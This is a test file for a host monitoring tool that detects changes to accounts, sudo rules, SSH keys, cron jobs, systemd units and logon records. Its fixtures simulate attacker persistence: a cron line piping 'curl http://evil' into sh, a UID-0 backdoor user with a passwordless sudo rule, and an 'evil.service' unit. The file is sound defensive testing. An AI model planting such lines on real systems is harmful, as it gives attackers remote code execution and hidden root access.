import { execFileSync, spawnSync } from 'node:child_process'
import { appendFileSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import type { JsonObject } from '../../kernel/json.ts'
import type { Collector } from '../collector.ts'
import { difference } from '../kept.ts'
import { logonCollector, readRecord, recordBytes } from './logons.ts'
import { objectCollectors, readAuthorizedKeys, readCron, readGroups, readSudoers, readUsers, unitReader } from './objects.ts'

const folder = mkdtempSync(join(tmpdir(), 'kanpeki-objects-'))
afterAll(() => rmSync(folder, { recursive: true }))
const within = async <T>(read: () => T | undefined): Promise<T> => {
  for (;;) {
    const found = read()
    if (found !== undefined) return found
    await new Promise((resolve) => setTimeout(resolve, 5))
  }
}

/** A collector at work; its events so far. */
function start(collector: Collector, kept: string): { readonly events: JsonObject[]; readonly stop: () => Promise<void> } {
  const events: JsonObject[] = []
  const stopped = new AbortController()
  mkdirSync(kept, { recursive: true })
  const ended = collector.run({
    emit: (event) => events.push(event) > 0,
    room: () => Promise.resolve(),
    count: () => {},
    signal: stopped.signal,
    folder: kept,
    warn: () => {},
  })
  return {
    events,
    stop: async () => {
      stopped.abort()
      await ended
    },
  }
}

describe('what decides who may do what, and what starts by itself', () => {
  const root = join(folder, 'root')
  const put = (path: string, text: string): void => {
    mkdirSync(dirname(join(root, path)), { recursive: true })
    writeFileSync(join(root, path), text)
  }
  const key = execKey(join(folder, 'key'))
  put('etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nada:x:1000:1000:Ada:/home/ada:/bin/bash\nbroken\n')
  put('etc/shadow', 'root:*:19000:0:99999:7:::\nada:$y$j9T$abc$def:20000:0:99999:7:::\n')
  put('etc/group', 'root:x:0:\nsudo:x:27:ada\n')
  put(
    'etc/sudoers',
    '# a comment\nDefaults env_reset\n%sudo  ALL=(ALL:ALL) \\\n  ALL\n#includedir /etc/sudoers.d\n#1000 ALL=ALL\n',
  )
  put('home/ada/.ssh/authorized_keys', `# hers\nfrom="10.0.0.0/8",no-pty ${key.line}\nrubbish\n`)
  put('etc/crontab', 'SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n')
  put('etc/cron.daily/backup', '#!/bin/sh\n')
  put('etc/systemd/system/shop.service', '[Service]\nExecStart=/srv/shop --port 80\n')

  it('reads each, without a password in it', () => {
    expect([...readUsers(root)]).toEqual([
      ['root', '0:0:/root:/bin/bash:locked:19000'],
      ['ada', '1000:1000:/home/ada:/bin/bash:set:20000'],
    ])
    expect([...readGroups(root)]).toEqual([
      ['root', '0:'],
      ['sudo', '27:ada'],
    ])
    expect([...readSudoers(root).keys()]).toEqual([
      '/etc/sudoers: Defaults env_reset',
      '/etc/sudoers: %sudo ALL=(ALL:ALL) ALL',
      '/etc/sudoers: #includedir /etc/sudoers.d',
      '/etc/sudoers: #1000 ALL=ALL',
    ])
    expect([...readAuthorizedKeys(root)]).toEqual([[`ada ${key.fingerprint}`, 'ssh-ed25519 from="10.0.0.0/8",no-pty ada@host']])
    expect([...readCron(root).keys()]).toEqual([
      '/etc/crontab: SHELL=/bin/sh',
      '/etc/crontab: 17 * * * * root run-parts /etc/cron.hourly',
      '/etc/cron.daily/backup',
    ])
  })

  it('tells a unit that came, was switched on, was changed and went', () => {
    const look = unitReader(root)
    const steps: (readonly [string, string | undefined, string | undefined])[] = []
    let before = look()
    const change = (work: () => void): void => {
      work()
      const now = look()
      steps.push(
        ...difference(before, now).map((one) => [one.name, one.before?.split(' ')[0], one.after?.split(' ')[0]] as const),
      )
      before = now
    }
    const wants = join(root, 'etc/systemd/system/multi-user.target.wants')
    mkdirSync(wants, { recursive: true })
    change(() => put('etc/systemd/system/evil.service', '[Service]\nExecStart=/tmp/evil\n'))
    change(() => symlinkSync('/etc/systemd/system/evil.service', join(wants, 'evil.service')))
    change(() => put('etc/systemd/system/evil.service', '[Service]\nExecStart=/tmp/other\n'))
    change(() => rmSync(join(wants, 'evil.service')))
    expect(steps).toEqual([
      ['/etc/systemd/system/evil.service', undefined, '/tmp/evil'],
      ['/etc/systemd/system/multi-user.target.wants/evil.service', undefined, '->'],
      ['/etc/systemd/system/evil.service', '/tmp/evil', '/tmp/other'],
      ['/etc/systemd/system/multi-user.target.wants/evil.service', '->', undefined],
    ])
  })

  it('makes events of changes, also of those while it was away', async () => {
    const run = () => objectCollectors(root, 50).map((one) => start(one, join(folder, 'kept')))
    const first = run()
    await within(() => (existing(join(folder, 'kept')) === 6 ? true : undefined))
    for (const { stop } of first) await stop()
    expect(first.flatMap(({ events }) => events)).toEqual([])
    appendFileSync(join(root, 'etc/passwd'), 'eve:x:0:0::/root:/bin/sh\n')
    appendFileSync(join(root, 'home/ada/.ssh/authorized_keys'), `${execKey(join(folder, 'other')).line}\n`)
    put('etc/shadow', 'root:*:19000:0:99999:7:::\nada:!$y$j9T$abc$def:20000:0:99999:7:::\n')
    put('etc/sudoers.d/eve', 'eve ALL=(ALL) NOPASSWD: ALL\n')
    put('etc/group', 'root:x:0:\nsudo:x:27:ada,eve\n')
    put('var/spool/cron/crontabs/root', '* * * * * curl http://evil | sh\n')
    const again = run()
    const events = await within(() => {
      const all = again.flatMap((one) => one.events)
      return all.length < 6 ? undefined : all
    })
    for (const { stop } of again) await stop()
    const actions = events.map(({ event }) => (event as JsonObject)['action'])
    expect(actions.toSorted()).toEqual(
      ['authorized-key-added', 'cron-job-added', 'group-changed', 'sudo-rule-added', 'user-added', 'user-changed'].toSorted(),
    )
    expect(events.find(({ event }) => (event as JsonObject)['action'] === 'user-added')).toMatchObject({
      event: { kind: 'event', category: ['iam'], type: ['user', 'creation'] },
      user: { target: { name: 'eve', id: '0' } },
    })
    expect(JSON.stringify(events)).not.toContain('$y$')
  })
})

const existing = (path: string): number =>
  Number(execFileSync('sh', ['-c', `ls ${path} 2>/dev/null | wc -l`], { encoding: 'utf8' }))

function execKey(file: string): { readonly line: string; readonly fingerprint: string } {
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'ada@host', '-f', file])
  const line = execFileSync('cat', [`${file}.pub`], { encoding: 'utf8' }).trim()
  const [, fingerprint = ''] = execFileSync('ssh-keygen', ['-lf', `${file}.pub`], { encoding: 'utf8' }).split(' ')
  return { line, fingerprint }
}

const utmpdump = spawnSync('utmpdump', ['--version']).status === 0 && process.arch === 'x64'

describe.skipIf(!utmpdump)('records of logons (needs utmpdump and x64)', () => {
  /** A record as util-linux writes it from its own text form. */
  const record = (type: number, pid: number, user: string, line: string, host: string, ip: string, time: string): Buffer => {
    const cell = (text: string, width: number): string => `[${text.padEnd(width)}]`
    const text = `[${type}] [${String(pid).padStart(5, '0')}] ${cell('ts/0', 4)} ${cell(user, 8)} ${cell(line, 12)} ${cell(host, 20)} ${cell(ip, 15)} [${time}]\n`
    return execFileSync('utmpdump', ['--reverse'], { input: text, stdio: ['pipe', 'pipe', 'ignore'] })
  }
  const login = record(7, 4242, 'ada', 'pts/0', 'client.example', '192.0.2.7', '2026-11-22T10:11:12,345678+00:00')

  it('are read as util-linux wrote them', () => {
    expect(login.length).toBe(recordBytes('x64'))
    expect(readRecord(login, 0, 'x64')).toEqual({
      type: 7,
      pid: 4242,
      line: 'pts/0',
      user: 'ada',
      host: 'client.example',
      at: Date.parse('2026-11-22T10:11:12.345Z'),
      address: '192.0.2.7',
    })
    const six = record(7, 1, 'ada', 'pts/1', '', '2001:db8::7', '2026-11-22T10:11:12,000000+00:00')
    expect(readRecord(six, 0, 'x64').address).toBe('2001:db8::7')
  })

  it('become sessions, failures and starts of the host; none twice over a restart, and none is lost where the file is emptied', async () => {
    const logs = join(folder, 'logs')
    mkdirSync(logs)
    const [wtmp, btmp] = [join(logs, 'wtmp'), join(logs, 'btmp')]
    const logout = record(8, 4242, '', 'pts/0', '', '0.0.0.0', '2026-11-22T10:20:00,000000+00:00')
    const boot = record(2, 0, 'reboot', '~', '6.1.0', '0.0.0.0', '2026-11-22T10:30:00,000000+00:00')
    const failed = record(6, 77, 'root', 'ssh:notty', '198.51.100.9', '198.51.100.9', '2026-11-22T10:31:00,000000+00:00')
    writeFileSync(wtmp, login)
    writeFileSync(btmp, '')
    const run = () => start(logonCollector({ folder: logs, failures: true, pollMs: 5 }), join(folder, 'logons'))
    const actions = ({ events }: { events: JsonObject[] }) => events.map(({ event }) => (event as JsonObject)['action'])
    let one = run()
    const kept = join(folder, 'logons', 'logons.json')
    await within(() => (spawnSync('grep', ['-q', 'btmp', kept]).status === 0 ? true : undefined))
    appendFileSync(wtmp, Buffer.concat([logout, boot.subarray(0, 100)]))
    appendFileSync(btmp, failed)
    await within(() => (one.events.length === 2 ? true : undefined))
    await one.stop()
    expect(one.events).toMatchObject([
      { '@timestamp': '2026-11-22T10:20:00.000Z', event: { action: 'session-closed' }, user: { name: 'ada' } },
      {
        event: { category: ['authentication'], outcome: 'failure', action: 'logon-failed' },
        user: { name: 'root' },
        source: { ip: '198.51.100.9', address: '198.51.100.9' },
        process: { pid: 77, tty: { name: 'ssh:notty' } },
      },
    ])
    // The rest of a record that was half written comes while nobody looks.
    appendFileSync(wtmp, boot.subarray(100))
    one = run()
    await within(() => (one.events.length === 1 ? true : undefined))
    expect(actions(one)).toEqual(['host-started'])
    writeFileSync(wtmp, login)
    await within(() => (one.events.length === 2 ? true : undefined))
    await one.stop()
    expect(one.events[1]).toMatchObject({
      event: { action: 'session-opened', category: ['session'] },
      source: { ip: '192.0.2.7', domain: 'client.example' },
    })
  })
})
